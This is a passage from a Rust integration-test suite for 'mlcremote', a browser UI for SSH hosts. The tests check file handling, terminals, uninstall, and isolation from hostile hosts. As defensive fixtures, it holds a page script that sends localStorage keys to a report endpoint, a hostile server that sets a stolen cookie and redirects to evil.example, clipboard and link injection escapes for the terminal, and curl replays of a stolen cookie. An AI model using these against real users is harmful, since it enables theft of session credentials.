        "dropped on the tree\n"
    );
    b.wait(r#"#tree li[data-path="dropped.txt"]"#, long).unwrap();
    drop(b);
    for entry in walk(client.home.path()) {
        let text = fs::read(&entry).unwrap_or_default();
        assert!(
            !String::from_utf8_lossy(&text).contains("correct horse"),
            "{} holds the passphrase",
            entry.display()
        );
    }
}

/// Wait for the text of `css` to be exactly `want`.
fn wait_equal(b: &Browser, css: &str, want: &str, within: Duration) {
    let deadline = std::time::Instant::now() + within;
    loop {
        let now = b.text_of(css).unwrap();
        if now == want {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{css} says {now:?}, not {want:?}: {}",
            b.page_text().unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// `<tag><digits>x` in terminal output (the echoed command holds `$((` there instead).
fn tagged(text: &str, tag: &str) -> Option<u64> {
    text.split(tag)
        .skip(1)
        .find_map(|rest| rest.split_once('x')?.0.parse().ok())
}

/// Until terminal `index` shows `<tag><digits>x`: the digits.
fn wait_tagged(b: &Browser, index: usize, tag: &str, within: Duration) -> u64 {
    let deadline = std::time::Instant::now() + within;
    loop {
        let text = terminal_text(b, index);
        if let Some(n) = tagged(&text, tag) {
            return n;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no {tag}<n> in terminal {index}: {text}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Terminal `index`'s buffer, scrollback included, a line each.
fn terminal_text(b: &Browser, index: usize) -> String {
    let script = "const t = window.mlc.terminals[arguments[0]]; if (!t) return '';
                  const b = t.buffer.active; let s = '';
                  for (let i = 0; i < b.length; i++) s += b.getLine(i).translateToString(true) + '\\n';
                  return s;";
    b.eval(script, vec![json!(index)])
        .unwrap()
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// Until the shell in terminal 0 reports the size the terminal has (`stty size`): the
/// page may fit the box more than once while the layout settles (a scroll bar comes or
/// goes), so each round asks the shell again, tagged, and compares with the terminal's
/// size at that moment. Ends when they agree, fails at `within`.
fn shell_sees_the_size(b: &Browser, input: &harness::browser::Element, within: Duration) {
    let deadline = std::time::Instant::now() + within;
    for round in 1.. {
        let want = b
            .eval(
                "const t = window.mlc.terminals[0]; return `${t.rows}x${t.cols}`;",
                vec![],
            )
            .unwrap();
        b.type_into(input, &format!("echo size-{round}-$(stty size | tr ' ' x)-end\n"))
            .unwrap();
        let tag = format!("size-{round}-");
        let said = loop {
            let text = terminal_text(b, 0);
            // The echoed command holds `$(`; the shell's answer holds digits only.
            let answer = text.match_indices(&tag).find_map(|(i, _)| {
                let rest = &text[i + tag.len()..];
                let value = &rest[..rest.find("-end")?];
                value
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == 'x')
                    .then(|| value.to_string())
            });
            if let Some(answer) = answer {
                break answer;
            }
            assert!(std::time::Instant::now() < deadline, "the shell never answered: {text}");
            std::thread::sleep(Duration::from_millis(50));
        };
        if want.as_str() == Some(said.as_str()) {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the shell says {said}, the terminal is {want}"
        );
    }
}

/// Wait for `text` in terminal `index`'s buffer.
fn wait_terminal(b: &Browser, index: usize, text: &str, within: Duration) {
    let deadline = std::time::Instant::now() + within;
    loop {
        let shown = terminal_text(b, index);
        if shown.contains(text) {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no {text:?} in terminal {index}: {shown}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Two hosts open at once, each with its own files; new folder and file, rename, delete
/// (confirmed); binary and huge files are not opened as text; logs; uninstall (confirmed).
#[test]
fn in_a_browser_two_hosts_files_managed_binaries_kept_closed_logs_and_uninstall() {
    let sshd = Sshd::start().unwrap();
    let ann = sshd.user().unwrap();
    let bob = sshd.user().unwrap();
    fs::write(ann.home.join("ann.txt"), "ann's\n").unwrap();
    // Bob's server serves a folder of his home, chosen on the host page.
    fs::create_dir(bob.home.join("work")).unwrap();
    fs::write(bob.home.join("work/bob.txt"), "bob's\n").unwrap();
    fs::write(bob.home.join("outside.txt"), "not served\n").unwrap();
    bob.own(&[&bob.home.join("work")]).unwrap();
    fs::write(ann.home.join("image.bin"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").unwrap();
    fs::write(ann.home.join("huge.log"), vec![b'x'; 3 * 1024 * 1024]).unwrap();
    let client = Client::new();
    let config = ssh_config(&client, &sshd, &ann);
    let mut text = fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "Host other\n  HostName 127.0.0.1\n  Port {}\n  User {}\n  IdentityFile {}\n  UserKnownHostsFile {}\n",
        sshd.port(),
        bob.name,
        bob.key.display(),
        client.home.path().join(".ssh/known_hosts").display()
    ));
    fs::write(&config, text).unwrap();
    let (ui, _cwd) = Ui::open_devbox(&client, &sshd, &config);
    let b = Browser::start().unwrap();
    let long = Duration::from_secs(90);
    let short = Duration::from_secs(15);
    b.goto(&ui.url()).unwrap();
    b.wait(r#"#tree li[data-path="ann.txt"]"#, long).unwrap();
    let answer = |b: &Browser, text: &str| {
        let input = b.wait("#dialog-input", short).unwrap();
        b.clear(&input).unwrap();
        b.type_into(&input, text).unwrap();
        b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
            .unwrap();
    };

    // New folder, new file, rename, delete.
    b.press("#new-folder", Duration::from_secs(15)).unwrap();
    answer(&b, "proj");
    b.wait(r#"#tree li[data-path="proj"]"#, short).unwrap();
    assert!(ann.home.join("proj").is_dir());
    b.press("#new-file", Duration::from_secs(15)).unwrap();
    answer(&b, "draft.txt");
    b.wait_text("#status-line", "opened draft.txt", short).unwrap();
    assert_eq!(fs::read(ann.home.join("draft.txt")).unwrap(), b"");
    common::ui::row_action(&b, "draft.txt", "rename", short).unwrap();
    answer(&b, "proj/final.txt");
    // The tree is listed again once the move is done: the old name leaves it.
    wait_js(
        &b,
        r#"return !document.querySelector('#tree li[data-path="draft.txt"]');"#,
        short,
    );
    assert!(ann.home.join("proj/final.txt").is_file() && !ann.home.join("draft.txt").exists());
    b.press(r#"#tree li[data-path="proj"] .name"#, short).unwrap();
    common::ui::row_action(&b, "proj/final.txt", "delete", short).unwrap();
    b.wait_text("#dialog-text", "Delete proj/final.txt?", short).unwrap();
    b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
        .unwrap();
    let deadline = std::time::Instant::now() + short;
    while ann.home.join("proj/final.txt").exists() {
        assert!(std::time::Instant::now() < deadline, "not deleted");
        std::thread::sleep(Duration::from_millis(50));
    }

    // Not text: a hex view. Too big for the editor: read in parts (its end first).
    b.press(r#"#tree li[data-path="image.bin"] .name"#, short).unwrap();
    b.wait_text("#status-line", "image.bin (not text: shown as hex)", short)
        .unwrap();
    b.wait_text("#hex", "00000000  89 50 4e 47 0d 0a 1a 0a", short).unwrap();
    b.press(r#"#tree li[data-path="huge.log"] .name"#, short).unwrap();
    b.wait_text("#status-line", "too large to open as text, so read in parts", short)
        .unwrap();
    b.wait_text("#big-range", "bytes 2883584–3145728 of 3145728 (3.0 MiB)", short)
        .unwrap();
    // (The file made above stays open under its new name, though deleted on the host.)
    b.press(r#".doc-tab[data-path="proj/final.txt"] .label"#, short)
        .unwrap();
    assert_eq!(editor_text(&b), "");
    assert_eq!(b.text_of("#open-path").unwrap(), "proj/final.txt");

    // A second host at once: its own tab, its own files.
    b.press(r#"button[data-tab="hosts"]"#, Duration::from_secs(15)).unwrap();
    b.press(r#"#hosts li[data-host="other"] button.connect"#, short)
        .unwrap();
    let root = b.wait("#root", long).unwrap();
    b.type_into(&root, "work").unwrap();
    b.press("#act-install", long).unwrap();
    b.wait("#deploy-result", long).unwrap();
    let served = bob.home.join("work").canonicalize().unwrap();
    b.wait_text(r#"dd[data-field="files"]"#, served.to_str().unwrap(), short)
        .unwrap();
    b.press("#act-open-workspace:enabled", short).unwrap();
    b.wait(r#"#tree li[data-path="bob.txt"]"#, long).unwrap();
    assert!(b.find(r#"#tree li[data-path="ann.txt"]"#).is_err());
    assert!(b.find(r#"#tree li[data-path="outside.txt"]"#).is_err());
    assert!(b.find(r#"#tree li[data-path="work"]"#).is_err());
    b.press(r#"button[data-tab="host:devbox"]"#, Duration::from_secs(15))
        .unwrap();
    b.wait(r#"#tree li[data-path="ann.txt"]"#, long).unwrap();
    assert!(b.find(r#"#tree li[data-path="bob.txt"]"#).is_err());

    // Logs, then uninstall (confirmed) on devbox.
    b.press("#host-page", Duration::from_secs(15)).unwrap();
    b.press("#act-logs", short).unwrap();
    b.wait_text("#logs", "listening", long).unwrap();
    // Followed: what the server writes next shows up.
    b.press("#follow", Duration::from_secs(15)).unwrap();
    b.wait_text("#follow", "Stop following", short).unwrap();
    // Following once the log's last lines came again.
    b.wait_text("#logs", "listening", long).unwrap();
    let mut log = fs::OpenOptions::new()
        .append(true)
        .open(ann.mlcremote_dir().join("logs/out.log"))
        .unwrap();
    std::io::Write::write_all(&mut log, b"a line written while followed\n").unwrap();
    b.wait_text("#logs", "a line written while followed", long).unwrap();
    b.press("#follow", Duration::from_secs(15)).unwrap();
    b.press("#act-uninstall", Duration::from_secs(15)).unwrap();
    b.wait_text("#dialog-text", "remove what deploy installed", short)
        .unwrap();
    b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
        .unwrap();
    wait_equal(&b, r#"dd[data-field="installed"]"#, "no", long);
    // What was deleted above is the person's, in the trash: uninstall keeps it, and
    // removes everything else it made.
    let left: Vec<_> = fs::read_dir(ann.mlcremote_dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(
        left,
        ["trash"],
        "the install dir is left with {:?}; the page says {}",
        walk(&ann.mlcremote_dir()),
        b.page_text().unwrap()
    );
    assert!(
        bob.mlcremote_dir().join("mlcremote").exists(),
        "the other host keeps its server"
    );

    // Ctrl-C ends the UI and every SSH connection it holds.
    drop(b);
    let mut ui = ui;
    let pid = ui.child.id().to_string();
    assert!(Command::new("kill").args(["-INT", &pid]).status().unwrap().success());
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let status = loop {
        if let Some(status) = ui.child.try_wait().unwrap() {
            break status;
        }
        assert!(std::time::Instant::now() < deadline, "the UI did not end on Ctrl-C");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(status.success(), "{status}");
    for user in [&ann, &bob] {
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while Command::new("pgrep")
            .args(["-u", &user.name, "-x", "sshd"])
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap()
            .success()
        {
            assert!(
                std::time::Instant::now() < deadline,
                "an SSH connection of {} outlived the UI",
                user.name
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// `SHA256:…` of the sshd's host key, as `ssh-keygen -lf` prints it.
fn fingerprint_of(sshd: &Sshd) -> String {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), sshd.host_public_key().unwrap()).unwrap();
    let line = harness::output("ssh-keygen", &["-lf", file.path().to_str().unwrap()]).unwrap();
    line.split_whitespace().nth(1).unwrap().to_string()
}

/// A small web app of another local user, on another port: it records the cookies the
/// browser sends it and what its page can read of the UI's storage.
const OTHER_APP: &str = r#"
import http.server, os, sys
log = open(sys.argv[1], "a", buffering=1)
page = b"""<!doctype html><title>another app</title><script>
fetch('/report?key=' + encodeURIComponent(String(localStorage.getItem('mlcremote.key'))));
</script>"""
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log.write(self.path + " cookie=" + self.headers.get("Cookie", "") + "\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", 0), H)
with open(sys.argv[2] + ".tmp", "w") as f:
    f.write(str(server.server_address[1]))
os.rename(sys.argv[2] + ".tmp", sys.argv[2])
server.serve_forever()
"#;

/// A host's server replaced by a hostile one: script as HTML, a cookie for the UI's
/// name, CORS, a refresh and redirects.
const HOSTILE_SERVER: &str = r#"
import http.server, os, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/api/tree"):
            self.send_response(302)
            self.send_header("Location", "http://evil.example/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/api/stat"):
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Encoding", "br")
            self.send_header("Content-Length", "4")
            self.end_headers()
            self.wfile.write(b"\x0b\x01\x80{")
            return
        body = b"<script>window.hostile = 1</script><h1>hostile</h1>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", sys.argv[2] + "=stolen; Path=/")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Refresh", "0;url=http://evil.example/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H)
with open(sys.argv[3] + ".tmp", "w") as f:
    f.write("ready")
os.rename(sys.argv[3] + ".tmp", sys.argv[3])
server.serve_forever()
"#;

/// `python3 -c script args…` as `user` (its own uid and groups), killed when dropped.
struct AsUser(Child);

impl AsUser {
    fn python(user: &harness::User, script: &str, args: &[&str]) -> AsUser {
        let id = |flag: &str| harness::output("id", &[flag, &user.name]).unwrap().trim().to_string();
        // setpriv execs (no child of its own to outlive a kill), without root's groups.
        let child = Command::new(harness::require("setpriv", "util-linux").unwrap())
            .arg(format!("--reuid={}", id("-u")))
            .arg(format!("--regid={}", id("-g")))
            // Debian's python3 (a pyenv shim under /root is not for other users).
            .args(["--clear-groups", "/usr/bin/python3", "-c", script])
            .args(args)
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        AsUser(child)
    }
}

impl Drop for AsUser {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Wait (bounded) for `file` to exist; its content.
fn wait_file(file: &Path, within: Duration) -> String {
    let deadline = std::time::Instant::now() + within;
    loop {
        if let Ok(text) = fs::read_to_string(file) {
            return text;
        }
        assert!(std::time::Instant::now() < deadline, "{} never came", file.display());
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Another local user, and any server on another 127.0.0.1 port that the user's browser
/// visits, get the UI's cookie (browsers send it to every port) but nothing they can use:
/// with it and the UI's own Origin, /ui/hosts, /ui/ws and /h/… answer 401 to that user;
/// the key is in the UI's origin alone. The browser is opened on a 0600 file: the launch
/// token is in no process's argv.
#[test]
fn another_local_user_or_port_gets_nothing_it_can_use() {
    assert!(harness::is_root(), "a second local user needs root (useradd)");
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    let other = sshd.user().unwrap();
    let client = Client::new();
    let config = ssh_config(&client, &sshd, &user);
    // A stand-in for the desktop's opener: it records its argv and the file it was given.
    let opener = tempfile::tempdir().unwrap();
    let record = opener.path().join("record");
    harness::write_script(
        &opener.path().join("xdg-open"),
        &format!(
            "#!/bin/sh\n{{ printf '%s\\n' \"$@\"; stat -c %a \"$1\"; cat \"$1\"; }} > {0}.tmp && mv {0}.tmp {0}\n",
            record.display()
        ),
    )
    .unwrap();
    let runtime = client.home.path().join("run");
    fs::create_dir_all(&runtime).unwrap();
    let path = format!("{}:{}", opener.path().display(), std::env::var("PATH").unwrap());
    let cwd = tempfile::tempdir().unwrap();
    let ui = Ui::spawn(
        &client,
        &["ui"],
        &config,
        cwd.path(),
        &[
            ("PATH", path),
            ("DISPLAY", ":99".into()),
            ("XDG_RUNTIME_DIR", runtime.display().to_string()),
        ],
    );
    let short = Duration::from_secs(15);
    let recorded = wait_file(&record, short);
    let mut lines = recorded.lines();
    let file = PathBuf::from(lines.next().unwrap());
    assert!(
        !recorded.lines().take(1).any(|l| l.contains(&ui.launch)),
        "the token in argv: {recorded}"
    );
    assert_eq!(lines.next(), Some("600"), "the launch file is the user's alone");
    assert!(file.starts_with(runtime.join("mlcremote")), "{}", file.display());
    assert!(
        recorded.contains(&ui.url()),
        "the file forwards to the launch URL: {recorded}"
    );
    let mut in_argv = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let cmdline = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains(&ui.launch) {
            in_argv.push(entry.file_name());
        }
    }
    assert!(in_argv.is_empty(), "the launch token is in the argv of {in_argv:?}");

    // The user's browser opens the file, lands on the UI, connects to the host.
    let b = Browser::start().unwrap();
    b.goto(&format!("file://{}", file.display())).unwrap();
    b.wait(r#"#hosts li[data-host="devbox"] button.connect"#, short)
        .unwrap();
    assert!(!file.exists(), "the launch file is gone once used");
    b.press(r#"#hosts li[data-host="devbox"] button.connect"#, short)
        .unwrap();
    b.press("#dialog button.trust", short).unwrap();
    b.wait("#act-install", Duration::from_secs(60)).unwrap();

    // Then it visits another user's app on another port: the cookie goes along.
    let seen = tempfile::tempdir().unwrap();
    fs::set_permissions(seen.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let (log, port_file) = (seen.path().join("log"), seen.path().join("port"));
    let _app = AsUser::python(&other, OTHER_APP, &[log.to_str().unwrap(), port_file.to_str().unwrap()]);
    let app_port = wait_file(&port_file, short);
    b.goto(&format!("http://127.0.0.1:{app_port}/")).unwrap();
    let deadline = std::time::Instant::now() + short;
    let log_text = loop {
        let text = fs::read_to_string(&log).unwrap_or_default();
        if text.contains("/report") {
            break text;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the other app's page never reported: {text}"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(
        log_text.contains("/report?key=null"),
        "another port read the key: {log_text}"
    );
    let name = format!("mlcremote_ui_{}=", ui.port);
    let stolen = log_text
        .split(['\n', ' ', ';'])
        .find_map(|part| {
            part.strip_prefix("cookie=")
                .or(Some(part))
                .filter(|p| p.starts_with(&name))
        })
        .unwrap_or_else(|| panic!("the browser sent no UI cookie to the other port (nothing to test): {log_text}"))
        .to_string();

    // As that other user, with the cookie and the UI's own Origin: nothing opens.
    let own_origin = format!("Origin: http://127.0.0.1:{}", ui.port);
    let curl = |args: &[&str]| -> String {
        let mut all = vec![
            "-u",
            &other.name,
            "--",
            "curl",
            "-sS",
            "--max-time",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ];
        all.extend_from_slice(args);
        harness::output("runuser", &all).unwrap().trim().to_string()
    };
    let base = format!("http://127.0.0.1:{}", ui.port);
    let cookie = format!("Cookie: {stolen}");
    for (method, path) in [
        ("GET", "/ui/hosts"),
        ("GET", "/h/devbox/api/tree?path="),
        ("POST", "/h/devbox/api/mkdir"),
    ] {
        let url = format!("{base}{path}");
        let status = curl(&["-X", method, "-H", &cookie, "-H", &own_origin, &url]);
        assert_eq!(status, "401", "{method} {path} with the stolen cookie");
    }
    let ws = format!("{base}/ui/ws");
    let status = curl(&[
        "-H",
        &cookie,
        "-H",
        &own_origin,
        "-H",
        "Connection: Upgrade",
        "-H",
        "Upgrade: websocket",
        "-H",
        "Sec-WebSocket-Version: 13",
        "-H",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "-H",
        "Sec-WebSocket-Protocol: mlcremote.key.0000",
        &ws,
    ]);
    assert_eq!(status, "401", "/ui/ws with the stolen cookie");

    // The user's page still works, after a reload too.
    b.goto(&format!("{base}/")).unwrap();
    b.wait(r#"#hosts li[data-host="devbox"] button.connect"#, short)
        .unwrap();
}

/// The first screen waits for no round trip after the connect's: the installed agent
/// lists the root beside the probe, and the page's first ask for the root's listing gets
/// that answer (under the sandbox every answer from a host gets), once; the next ask
/// goes to the host. Seen from a file made on the host after the connect: not in the
/// first answer, in the next.
#[test]
fn the_roots_first_listing_comes_with_the_connect_and_the_next_from_the_host() {
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    let client = Client::new();
    let out = client.deploy(&sshd, &user, &["--artifact", &common::server()]);
    assert!(out.status.success(), "{}", common::text(&out));
    fs::write(user.home.join("made-before.txt"), "").unwrap();
    fs::create_dir(user.home.join("sub")).unwrap();
    fs::write(user.home.join("sub/inside.txt"), "").unwrap();
    user.own(&[&user.home.join("made-before.txt"), &user.home.join("sub")])
        .unwrap();
    let config = ssh_config(&client, &sshd, &user);
    let (ui, _cwd) = Ui::open_devbox(&client, &sshd, &config);

    // The page's credentials: the launch link's cookie, and the key it hands the page.
    let own = ui.own();
    let (status, headers, _) = request(ui.port, "GET", &format!("/?launch={}", ui.launch), &[("host", &own)]);
    assert_eq!(status, 303);
    let key = header(&headers, "location")
        .unwrap()
        .trim_start_matches("/#key=")
        .to_string();
    let cookie = header(&headers, "set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let page = [("host", own.as_str()), ("cookie", &cookie), ("x-mlcremote-key", &key)];

    // `open --host` connects as the UI starts; it holds the host once its server's
    // health answers through it.
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while request(ui.port, "GET", "/h/devbox/health", &page).0 != 200 {
        assert!(std::time::Instant::now() < deadline, "the UI never held devbox");
        std::thread::sleep(Duration::from_millis(50));
    }
    fs::write(user.home.join("made-after.txt"), "").unwrap();
    let names = |body: &str| -> Vec<String> {
        let listed: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
        listed
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|e| e["name"].as_str().map(String::from))
            .collect()
    };
    // Another folder's listing is the host's, and leaves the root's kept.
    let (status, _, sub) = request(ui.port, "GET", "/h/devbox/api/tree?path=sub", &page);
    assert_eq!((status, names(&sub)), (200, vec!["inside.txt".to_string()]), "{sub}");
    let (status, headers, first) = request(ui.port, "GET", "/h/devbox/api/tree?path=", &page);
    assert_eq!(status, 200, "{first}");
    assert_eq!(header(&headers, "content-type"), Some("application/json"));
    assert_eq!(
        header(&headers, "content-security-policy"),
        Some("default-src 'none'; sandbox")
    );
    assert_eq!(header(&headers, "x-content-type-options"), Some("nosniff"));
    let first = names(&first);
    assert!(first.iter().any(|n| n == "made-before.txt"), "{first:?}");
    assert!(
        !first.iter().any(|n| n == "made-after.txt"),
        "the first answer came with the connect: {first:?}"
    );
    let (status, _, next) = request(ui.port, "GET", "/h/devbox/api/tree?path=", &page);
    assert_eq!(status, 200, "{next}");
    let next = names(&next);
    assert!(
        next.iter().any(|n| n == "made-after.txt"),
        "the next answer is the host's: {next:?}"
    );
}

/// A host whose server was replaced by a hostile one: its HTML, cookies, CORS, refresh
/// and redirects change nothing in the page. And what the host prints in a terminal
/// cannot write the clipboard or open a link without the person's click.
#[test]
fn a_hostile_host_changes_nothing_in_the_page() {
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    fs::write(user.home.join("todo.txt"), "open me\n").unwrap();
    let opened = open_in_browser(&sshd, &user);
    let b = &opened.b;
    let long = Duration::from_secs(90);
    let short = Duration::from_secs(15);
    b.wait(r#"#tree li[data-path="todo.txt"] .name"#, long).unwrap();

    // A terminal: the host asks to write the clipboard (OSC 52), and prints a link (OSC 8)
    // over the whole screen.
    b.press("#new-terminal", Duration::from_secs(15)).unwrap();
    let input = b
        .wait(r#".term[data-state="open"] .xterm-helper-textarea"#, short)
        .unwrap();
    b.type_into(&input, "printf '\\033]52;c;cHduZWQ=\\007'; echo osc52-$((1+1))\n")
        .unwrap();
    wait_terminal(b, 0, "osc52-2", long);
    assert_eq!(b.eval("return window.mlc.clipboardRefused;", vec![]).unwrap(), json!(1));
    b.type_into(
        &input,
        "clear; printf '\\033]8;;http://evil.example/x\\033\\\\'; printf 'L%.0s' $(seq 4000); printf '\\033]8;;\\033\\\\'; echo; echo link-$((2+2))\n",
    )
    .unwrap();
    wait_terminal(b, 0, "link-4", long);
    let screen = b.find(".term .xterm-screen").unwrap();
    b.hover(&screen).unwrap();
    b.wait(".term .xterm-cursor-pointer", short).unwrap();
    let windows = b.windows().unwrap();
    b.click(&screen).unwrap();
    b.wait_text("#link-target", "http://evil.example/x", short).unwrap();
    assert_eq!(b.windows().unwrap(), windows, "a link opened before the person said so");
    b.press(r#"#dialog button[data-value="false"]"#, Duration::from_secs(15))
        .unwrap();
    assert_eq!(b.windows().unwrap(), windows, "a cancelled link opened");

    // The host's server is replaced by a hostile one on the same port.
    let server = common::server_json(&user);
    let port = server["port"].as_u64().unwrap().to_string();
    harness::kill_server(&user.mlcremote_dir().join("server.json"));
    let ready = tempfile::tempdir().unwrap();
    fs::set_permissions(ready.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let ready_file = ready.path().join("ready");
    let cookie_name = format!("mlcremote_ui_{}", opened.ui.port);
    let _hostile = AsUser::python(
        &user,
        HOSTILE_SERVER,
        &[&port, &cookie_name, ready_file.to_str().unwrap()],
    );
    wait_file(&ready_file, short);

    // What the page fetches from it is inert data; the page's cookie stays its own.
    let before = b.cookies().unwrap();
    let seen = b
        .eval_async(
            "const done = arguments[arguments.length - 1];
             const key = { 'x-mlcremote-key': localStorage.getItem('mlcremote.key') };
             Promise.all(['file?path=evil.html', 'tree?path=', 'stat?path=x'].map(p =>
               fetch('/h/devbox/api/' + p, { headers: key, redirect: 'manual' }).then(async r => {
                 let all = r.status + '\\n';
                 r.headers.forEach((v, k) => { all += k + ': ' + v + '\\n'; });
                 return all + await r.text(); }))).then(done, e => done(String(e)));",
            vec![],
        )
        .unwrap();
    let (file, tree) = (seen[0].as_str().unwrap(), seen[1].as_str().unwrap());
    assert!(file.starts_with("200\n"), "{file}");
    for want in [
        "content-type: application/octet-stream",
        "content-disposition: attachment",
        "content-security-policy: default-src 'none'; sandbox",
        "x-content-type-options: nosniff",
    ] {
        assert!(file.contains(want), "{want} missing: {file}");
    }
    for never in ["access-control-", "refresh:", "text/html"] {
        assert!(!file.contains(never), "{never} passed: {file}");
    }
    assert!(tree.starts_with("502\n") && tree.contains("redirect"), "{tree}");
    // An encoding the UI did not ask for (it asks for gzip alone) is not passed on.
    let stat = seen[2].as_str().unwrap();
    assert!(
        stat.starts_with("502\n") && stat.contains("encoding not asked for (br)"),
        "{stat}"
    );
    assert!(!stat.contains("content-encoding"), "{stat}");
    assert!(!tree.contains("evil.example"), "{tree}");
    assert_eq!(b.cookies().unwrap(), before, "the host set a cookie");
    // With a real client too: no Set-Cookie, no Location.
    let key = b.eval("return localStorage.getItem('mlcremote.key');", vec![]).unwrap();
    let own = opened.ui.own();
    let cookie = before.iter().find(|c| c.starts_with(&cookie_name)).unwrap().clone();
    let key = key.as_str().unwrap();
    let headers = [
        ("host", own.as_str()),
        ("cookie", cookie.as_str()),
        ("x-mlcremote-key", key),
    ];
    let (status, got, _) = request(opened.ui.port, "GET", "/h/devbox/api/file?path=evil.html", &headers);
    assert_eq!(status, 200);
    assert!(header(&got, "set-cookie").is_none(), "{got:?}");
    let (status, got, _) = request(opened.ui.port, "GET", "/h/devbox/api/tree?path=", &headers);
    assert_eq!(status, 502);
    assert!(header(&got, "location").is_none(), "{got:?}");

    // Opened in a tab (a link, a download), a host URL has no key: the script never runs.
    b.goto(&format!("http://{own}/h/devbox/api/file?path=evil.html"))
        .unwrap();
    assert_eq!(
        b.eval("return window.hostile === undefined;", vec![]).unwrap(),
        json!(true)
    );
    assert!(
        b.page_text().unwrap().contains("open the link"),
        "{}",
        b.page_text().unwrap()
    );
    // And the page works after all that, reloaded.
    b.goto(&format!("http://{own}/")).unwrap();
    b.wait(r#"#tabs button[data-tab="hosts"]"#, short).unwrap();
    assert_eq!(b.cookies().unwrap(), before);
    let hosts = b
        .eval_async(
            "const done = arguments[arguments.length - 1];
             fetch('/ui/hosts', { headers: { 'x-mlcremote-key': localStorage.getItem('mlcremote.key') } }).then(r => done(r.status));",
            vec![],
        )
        .unwrap();
    assert_eq!(hosts, json!(200));
}

/// Two UIs in one browser (each its own port, cookie name and key): both keep working,
/// after reloads too; a page without the key says how to get in.
#[test]
fn two_uis_in_one_browser_both_keep_working() {
    let client = Client::new();
    let config = client.home.path().join(".ssh/config");
    let cwd = tempfile::tempdir().unwrap();
    let first = Ui::start(&client, &config, cwd.path(), &[]);
    let second = Ui::start(&client, &config, cwd.path(), &[]);
    let b = Browser::start().unwrap();
    let short = Duration::from_secs(15);
    b.goto(&first.url()).unwrap();
    b.wait("#f-connect", short).unwrap();
    b.goto(&second.url()).unwrap();
    b.wait("#f-connect", short).unwrap();
    for _ in 0..2 {
        for ui in [&first, &second] {
            b.goto(&format!("http://{}/", ui.own())).unwrap();
            b.wait("#f-connect", short).unwrap();
        }
    }
    let names: Vec<String> = b
        .cookies()
        .unwrap()
        .iter()
        .map(|c| c.split('=').next().unwrap().to_string())
        .collect();
    for ui in [&first, &second] {
        assert!(names.contains(&format!("mlcremote_ui_{}", ui.port)), "{names:?}");
    }
    // A link from elsewhere with a wrong key does not replace the right one.
    b.goto(&format!("http://{}/#key={}", first.own(), "0".repeat(64)))
        .unwrap();
    b.wait("#f-connect", short).unwrap();
    b.goto(&format!("http://{}/", first.own())).unwrap();
    b.wait("#f-connect", short).unwrap();
    // Without the key (storage cleared), the cookie alone shows only how to get in.
    b.goto(&format!("http://{}/", first.own())).unwrap();
    b.wait("#f-connect", short).unwrap();
    b.eval("localStorage.clear();", vec![]).unwrap();
    b.goto(&format!("http://{}/", first.own())).unwrap();
    b.wait_text("#unauthorized", "open the link", short).unwrap();
}

/// The UI's held SSH connection breaks (FIN, reset, silence) under a file being read, a
